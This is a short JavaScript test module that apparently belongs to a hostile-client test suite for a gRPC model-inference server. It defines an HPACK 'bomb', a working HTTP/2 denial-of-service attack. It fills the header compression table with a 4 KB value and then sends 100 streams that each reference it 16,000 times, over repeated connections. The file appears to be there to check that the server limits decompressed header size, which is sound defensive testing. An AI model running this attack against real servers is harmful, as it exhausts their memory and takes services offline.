import { defineAttack, MODEL_INFER } from '../../hostile-client.js';
import { END_HEADERS, FRAME, frame, headerBlock, PREFACE, requestHeaders, settings } from '../../http2-frames.js';

/** The first entry of the dynamic table, in one byte. */
const NEWEST = 0x80 | 62;

export const attack = defineAttack(import.meta.url, {
  does: 'an HPACK bomb: 4 KB enter the dynamic table, and each of 100 streams names them 16,000 times in a byte each',
  bound: 'the unpacked head is bounded, not only the packed one',
  port: 'grpc',
  async run(client) {
    const large = headerBlock([['x-a', 'b'.repeat(4000)]], true);
    const bomb = Buffer.concat([requestHeaders(MODEL_INFER), Buffer.alloc(16_000, NEWEST)]);
    await client.repeat(500, () => {
      for (let count = 0; count < 5; count++) {
        const first = frame(FRAME.headers, END_HEADERS, 1, Buffer.concat([requestHeaders(MODEL_INFER), large]));
        const bombs = Array.from({ length: 100 }, (_, index) => frame(FRAME.headers, END_HEADERS, 2 * index + 3, bomb));
        const socket = client.socket();
        socket.write(Buffer.concat([PREFACE, settings(), first, ...bombs]));
        setTimeout(() => socket.destroy(), 490);
      }
    });
  },
});
